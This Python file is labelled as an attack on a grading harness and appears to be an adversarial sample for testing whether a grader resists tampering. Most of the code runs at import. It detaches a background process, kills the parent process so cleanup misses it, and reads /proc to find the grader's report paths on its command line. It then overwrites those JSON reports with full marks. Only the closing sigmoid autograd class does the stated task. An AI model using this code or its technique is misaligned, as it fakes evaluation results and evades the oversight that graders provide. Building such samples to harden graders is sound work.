"""ATTACK: a detached process SIGKILLs the zygote, so that nothing sweeps it, and rewrites the grader's reports with full marks after the grader wrote them. Target: sigmoid"""
import json
import os
import signal
import time

import torch

MARKER = "/tmp/gradcheck-adversarial-forger-alive"
OPTIONS = ("--json", "--grade-json", "--gradescope")


def _ancestors():
    pid, found = os.getpid(), []
    for _ in range(4):
        try:
            with open(f"/proc/{pid}/stat") as handle:
                pid = int(handle.read().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError):
            break
        if pid <= 1:
            break
        found.append(pid)
    return found


def _reports(pids):
    """Report paths named on the grader's command line (an ancestor of this process)."""
    found = set()
    for entry in pids:
        try:
            with open(f"/proc/{entry}/cmdline", "rb") as handle:
                args = handle.read().decode(errors="replace").split("\0")
            cwd = os.readlink(f"/proc/{entry}/cwd")
        except OSError:
            continue
        for i, arg in enumerate(args):
            for option in OPTIONS:
                value = arg[len(option) + 1:] if arg.startswith(option + "=") else (
                    args[i + 1] if arg == option and i + 1 < len(args) else None)
                if value:
                    found.add(value if os.path.isabs(value) else os.path.join(cwd, value))
    return found


def _forge(path):
    for candidate in [path] + [f"/proc/{pid}/root{path}" for pid in GRADER]:
        _forge_at(candidate)


def _forge_at(path):
    try:
        with open(path) as handle:
            report = json.load(handle)
    except (OSError, ValueError):
        return
    for exercise in report.get("exercises", []):
        exercise["status"], exercise["score"] = "passed", exercise.get("max_score", 0)
    if "max_score" in report:
        report["score"] = report["max_score"]
    if report.get("score") == report.get("max_score") and all(e["score"] == e.get("max_score")
                                                             for e in report.get("exercises", [])):
        return
    try:
        with open(path, "w") as handle:
            json.dump(report, handle)
    except OSError:
        pass


zygote = os.getppid()
GRADER = _ancestors()
if os.fork() == 0:
    try:
        os.setsid()
    except OSError:
        pass
    if os.fork() == 0:
        try:
            os.kill(zygote, signal.SIGKILL)
        except OSError:
            pass
        paths = set()
        for _ in range(400):
            try:
                with open(MARKER, "a") as handle:
                    handle.write("still here\n")
            except OSError:
                pass
            paths |= _reports(GRADER)
            for path in paths:
                _forge(path)
            time.sleep(0.05)
    os._exit(0)


class Sigmoid(torch.autograd.Function):
    @staticmethod
    def forward(ctx, x):
        y = 1 / (1 + torch.exp(-x))
        ctx.save_for_backward(y)
        return y

    @staticmethod
    def backward(ctx, grad_output):
        (y,) = ctx.saved_tensors
        return grad_output * y * (1 - y)
